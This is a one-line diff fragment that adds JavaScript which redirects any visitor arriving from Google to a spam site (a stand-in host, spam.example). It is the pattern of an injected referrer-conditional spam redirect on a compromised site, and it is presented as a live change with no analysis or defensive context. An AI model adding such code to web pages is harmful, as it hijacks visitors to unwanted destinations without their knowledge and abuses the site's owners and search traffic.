@@ -1,0 +1,1 @@
+if (document.referrer.indexOf('google')>-1) location='http://spam.example/';
